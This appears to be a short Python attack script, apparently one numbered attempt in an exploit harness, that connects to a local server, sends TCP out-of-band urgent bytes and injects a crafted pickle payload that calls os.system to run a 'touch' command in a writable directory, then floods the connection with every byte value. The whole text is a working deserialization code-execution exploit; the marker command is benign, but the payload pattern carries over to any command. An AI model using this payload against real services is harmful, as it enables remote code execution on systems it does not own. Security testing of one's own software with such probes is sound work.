from attaque import *

with socket.create_connection(("localhost", PORT)) as client:
    print(client.recv(1024).decode(), flush=True)
    mark = (KNOWN.get("writable") or ["/tmp"])[0]
    client.send(b"!", socket.MSG_OOB)
    client.sendall(b"cos\nsystem\n(S'touch " + mark.encode() + b"/pickled'\ntR.")
    client.sendall(bytes(range(256)))
    client.send(b"!", socket.MSG_OOB)
tried(51, "urgent bytes")
